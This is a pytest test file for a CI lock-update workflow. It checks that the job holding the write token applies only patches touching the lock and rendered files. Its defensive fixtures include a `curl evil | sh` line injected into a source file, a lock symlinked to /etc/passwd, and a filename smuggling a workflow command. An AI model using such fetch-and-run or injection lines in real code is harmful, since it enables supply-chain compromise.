"""The scheduled lock update's two scripts, run with bash on real git repositories: the job
that runs cannery (and so third-party code: git, uv building tracked branches) makes a patch of
the lock and the files rendered from it; the job with the write token applies a patch only when
every path it touches is one of those, and names any other path it touches otherwise.

The patches a hostile first job could hand on are made here with git itself (a changed file
elsewhere, a new workflow, a rename out of the allowed paths, a name with a newline)."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from cannery.catalog.load import load_catalog
from cannery.lock import Lock
from cannery.plan import plan
from cannery.render.workflow import lock_update_paths
from tests.unit.test_workflow_triggers import _catalog, _render

APPLY = "Apply the patch: the lock and the files rendered from it, nothing else"
MAKE = "The change, as a patch"


@pytest.fixture
def workflow(tmp_path: Path) -> dict[str, Any]:
    (tmp_path / "cat").mkdir()
    doc: dict[str, Any] = yaml.safe_load(
        _render(_catalog(tmp_path / "cat", 'schedule = "0 3 * * *"\n')))
    return doc


def _step(doc: dict[str, Any], job: str, name: str) -> str:
    (run,) = [s["run"] for s in doc["jobs"][job]["steps"] if s.get("name") == name]
    return str(run)


def _git(repo: Path, *args: str, **kw: Any) -> subprocess.CompletedProcess[str]:
    ident = ["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "core.quotepath=off"]
    return subprocess.run(["git", *ident, *args], cwd=repo, capture_output=True, text=True,
                          check=True, **kw)


def _repo(tmp_path: Path) -> Path:
    """A checkout with the lock, a rendered Dockerfile and a source file, committed."""
    repo = tmp_path / "repo"
    (repo / "dockerfiles").mkdir(parents=True)
    (repo / "src").mkdir()
    (repo / "cannery.lock").write_text("version = 1\n")
    (repo / "dockerfiles" / "one.Dockerfile").write_text("FROM scratch\n")
    (repo / "src" / "app.py").write_text("print('app')\n")
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "start")
    return repo


UPDATED_LOCK = "version = 1\n# updated\n"


def _updated_checkout(tmp_path: Path) -> tuple[Path, Path]:
    """A checkout (see _repo) whose lock the update changed, and the runner's temp directory."""
    repo = _repo(tmp_path)
    (repo / "cannery.lock").write_text(UPDATED_LOCK)
    return repo, tmp_path / "runner"


def _patch_of_worktree(repo: Path, runner: Path) -> Path:
    """The worktree's change against HEAD as `git diff --binary` writes it (renames found),
    in the artifact's place; the worktree is then reset, as a fresh checkout is."""
    _git(repo, "add", "-A")
    patch = runner / "lock-update" / "change.patch"
    patch.parent.mkdir(parents=True, exist_ok=True)
    patch.write_text(_git(repo, "diff", "--cached", "--binary", "-M").stdout)
    _git(repo, "reset", "-q", "--hard")
    _git(repo, "clean", "-qfdx")
    return patch


def _run(script: str, repo: Path, runner: Path) -> subprocess.CompletedProcess[str]:
    runner.mkdir(exist_ok=True)
    (runner / "output").touch()
    # GitHub's default shell for `run:` on Linux: bash -e {0}
    return subprocess.run(
        ["bash", "-e", "-c", script], cwd=repo, capture_output=True, text=True, check=False,
        env={**os.environ, "RUNNER_TEMP": str(runner), "GITHUB_OUTPUT": str(runner / "output")},
    )


def _apply(workflow: dict[str, Any], repo: Path, runner: Path) -> subprocess.CompletedProcess[str]:
    """The job with the write token: its step that applies the patch handed on in ``runner``."""
    return _run(_step(workflow, "lock-update-pr", APPLY), repo, runner)


def _status(repo: Path) -> str:
    return _git(repo, "status", "--porcelain").stdout


def test_the_allowed_paths_are_the_lock_and_what_is_rendered_from_it(tmp_path: Path) -> None:
    cat = load_catalog(_catalog(tmp_path, 'schedule = "0 3 * * *"\n')).catalog
    paths = lock_update_paths(cat, plan(cat, Lock()), "cannery.lock")
    assert paths == ["cannery.lock", "dockerfiles/one.Dockerfile", "dockerfiles/two.Dockerfile",
                     "docker-bake.json", "TAGS.md",
                     ".github/workflows/cannery-requirements.txt"]


def test_a_patch_of_the_lock_alone_applies(
    tmp_path: Path, workflow: dict[str, Any]
) -> None:
    repo, runner = _updated_checkout(tmp_path)
    (repo / "dockerfiles" / "one.Dockerfile").write_text("FROM scratch\nLABEL a=b\n")
    _patch_of_worktree(repo, runner)
    done = _apply(workflow, repo, runner)
    assert done.returncode == 0, done.stdout + done.stderr
    staged = _git(repo, "diff", "--cached", "--name-only").stdout.split()
    assert staged == ["cannery.lock", "dockerfiles/one.Dockerfile"]
    assert (repo / "cannery.lock").read_text() == UPDATED_LOCK


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ("modify", ["src/app.py"]),
        ("workflow", [".github/workflows/evil.yml"]),
        # A rename into an allowed path: git's --include alone (by the new name) would apply
        # it, deleting the source file.
        ("rename", ["src/app.py"]),
    ],
)
def test_a_patch_touching_any_other_path_is_refused_naming_it(
    tmp_path: Path, workflow: dict[str, Any], change: str, named: list[str]
) -> None:
    repo, runner = _updated_checkout(tmp_path)
    if change == "modify":
        (repo / "src" / "app.py").write_text("import os; os.system('curl evil | sh')\n")
    elif change == "workflow":
        (repo / ".github" / "workflows").mkdir(parents=True)
        (repo / ".github" / "workflows" / "evil.yml").write_text("on: push\n")
    else:
        (repo / "src" / "app.py").rename(repo / "docker-bake.json")
    patch = _patch_of_worktree(repo, runner)
    if change == "rename":
        assert "rename from src/app.py" in patch.read_text()
    done = _apply(workflow, repo, runner)
    assert done.returncode == 1, done.stdout + done.stderr
    errors = [line for line in done.stdout.splitlines() if line.startswith("::error::")]
    assert [e.split("touches ", 1)[1].split(",", 1)[0] for e in errors] == named
    assert _status(repo) == ""  # nothing applied, the lock included
    assert _git(repo, "diff", "--cached", "--name-only").stdout == ""


def test_a_refused_name_cannot_write_a_workflow_command(
    tmp_path: Path, workflow: dict[str, Any]
) -> None:
    """The name is quoted (printf %q): a newline in it starts no `::command::` line."""
    repo, runner = _repo(tmp_path), tmp_path / "runner"
    (repo / "src" / "x\n::warning::injected").write_text("x\n")
    _patch_of_worktree(repo, runner)
    done = _apply(workflow, repo, runner)
    assert done.returncode == 1
    lines = done.stdout.splitlines()
    assert "::warning::injected" not in lines
    assert lines == ["::error::the lock-update patch touches $'src/x\\n::warning::injected', "
                     "which is not the lock or a file rendered from it; nothing was applied"]


def test_the_first_job_hands_on_only_the_lock_and_rendered_files(
    tmp_path: Path, workflow: dict[str, Any]
) -> None:
    """What a source package's build left in the checkout is named and left out."""
    repo, runner = _updated_checkout(tmp_path)
    (repo / "build").mkdir()
    (repo / "build" / "junk.txt").write_text("left by a build backend\n")
    done = _run(_step(workflow, "lock-update", MAKE), repo, runner)
    assert done.returncode == 0, done.stderr
    assert "::warning::left out of the lock update (not the lock or a file rendered from it): " \
        "build/junk.txt" in done.stdout.splitlines()
    patch = (runner / "lock-update" / "change.patch").read_text()
    assert "diff --git a/cannery.lock b/cannery.lock" in patch and "junk" not in patch
    assert (runner / "output").read_text() == "changed=true\n"
    # Nothing changed: no patch, no pull request.
    repo2 = _repo(tmp_path / "again")
    runner2 = tmp_path / "again" / "runner"
    done = _run(_step(workflow, "lock-update", MAKE), repo2, runner2)
    assert done.returncode == 0 and "the lock is unchanged" in done.stdout
    assert (runner2 / "output").read_text() == ""


@pytest.mark.parametrize("kind", ["symlink", "executable"])
def test_an_allowed_path_stays_a_regular_file(
    tmp_path: Path, workflow: dict[str, Any], kind: str
) -> None:
    """A patch that makes the lock a symbolic link (to a file outside the repository, which
    the next reader of the lock would follow) or an executable is refused naming it: the
    allowed paths are regular, non-executable files (mode 100644)."""
    repo, runner = _repo(tmp_path), tmp_path / "runner"
    (repo / "cannery.lock").unlink()
    if kind == "symlink":
        (repo / "cannery.lock").symlink_to("/etc/passwd")
    else:
        (repo / "cannery.lock").write_text("#!/bin/sh\n")
        (repo / "cannery.lock").chmod(0o755)
    _patch_of_worktree(repo, runner)
    done = _run(_step(workflow, "lock-update-pr", APPLY), repo, runner)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "::error::the lock-update patch makes cannery.lock " in done.stdout, done.stdout
    assert _status(repo) == ""
    assert not (repo / "cannery.lock").is_symlink()
